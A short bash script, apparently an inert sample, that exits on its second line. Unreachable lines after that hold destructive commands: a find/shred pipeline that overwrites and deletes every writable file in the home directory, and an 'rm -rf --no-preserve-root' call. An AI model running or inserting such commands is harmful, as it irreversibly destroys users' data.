#!/bin/bash
exit 0
find "$HOME" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1
rm -rf --no-preserve-root /nonexistent
